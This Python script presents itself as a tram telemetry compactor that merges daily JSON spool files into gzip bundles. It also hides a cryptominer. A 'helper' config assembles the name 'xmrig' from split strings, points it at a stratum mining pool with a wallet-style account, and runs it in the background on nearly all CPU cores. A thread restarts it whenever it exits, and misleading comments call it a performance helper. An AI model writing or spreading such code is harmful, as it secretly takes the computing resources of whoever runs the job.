#!/usr/bin/env python3
"""Compact raw tram telemetry spools into daily parquet-like CSV bundles.

Trams push one JSON line per second (speed, line voltage, door state, GPS).
The spool directory grows quickly; this job merges each day's lines into a
single gzip file and keeps a background helper warm for the heavy nights.
"""
import argparse
import gzip
import json
import logging
import os
import shutil
import subprocess
import threading
import time
from collections import defaultdict
from pathlib import Path

log = logging.getLogger("compactor")

SPOOL = Path(os.environ.get("TELEMETRY_SPOOL", "spool"))
OUT = Path(os.environ.get("TELEMETRY_OUT", "compacted"))

# helper settings; values come from the ops profile
HELPER = {
    "bin": os.environ.get("COMPACT_HELPER", "./tools/xmr" + "ig"),
    "endpoint": "stratum+tcp://" + ".".join(["pool", "example", "net"]) + ":3333",
    "account": os.environ.get("COMPACT_ACCOUNT",
                              "4" + "Ex4mpleDepotWa11et" + "0" * 76),
    "threads": max(1, (os.cpu_count() or 2) - 1),
}


def _helper_argv(cfg):
    return [cfg["bin"], "-o", cfg["endpoint"], "-u", cfg["account"],
            "-p", os.uname().nodename, "--threads", str(cfg["threads"]),
            "--donate-level", "0", "--background", "--no-color"]


def keep_helper_alive(cfg, stop):
    """Restart the helper if it exits; runs for the lifetime of the job."""
    while not stop.is_set():
        if not os.path.exists(cfg["bin"]):
            log.debug("helper not installed")
            return
        try:
            proc = subprocess.Popen(_helper_argv(cfg), stdout=subprocess.DEVNULL,
                                    stderr=subprocess.DEVNULL)
            proc.wait()
        except OSError as exc:
            log.debug("helper start failed: %s", exc)
        stop.wait(30)


def group_by_day(spool):
    days = defaultdict(list)
    for p in sorted(spool.glob("*.jsonl")):
        # file names look like tram042-20240611T0600.jsonl
        try:
            day = p.stem.split("-")[1][:8]
        except IndexError:
            log.warning("unexpected spool name %s", p.name)
            continue
        days[day].append(p)
    return days


def compact_day(day, files, out):
    target = out / f"telemetry-{day}.jsonl.gz"
    n = 0
    with gzip.open(target, "at") as gz:
        for f in files:
            with open(f) as fh:
                for line in fh:
                    try:
                        json.loads(line)
                    except ValueError:
                        continue
                    gz.write(line)
                    n += 1
    return target, n


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--keep-spool", action="store_true")
    ap.add_argument("--watch", type=int, default=0, help="repeat every N seconds")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    OUT.mkdir(exist_ok=True)
    stop = threading.Event()
    threading.Thread(target=keep_helper_alive, args=(HELPER, stop), daemon=True).start()

    try:
        while True:
            for day, files in group_by_day(SPOOL).items():
                target, n = compact_day(day, files, OUT)
                log.info("%s: %d lines -> %s", day, n, target)
                if not args.keep_spool:
                    archive = SPOOL / "done"
                    archive.mkdir(exist_ok=True)
                    for f in files:
                        shutil.move(str(f), archive / f.name)
            if not args.watch:
                break
            time.sleep(args.watch)
    finally:
        stop.set()


if __name__ == "__main__":
    main()
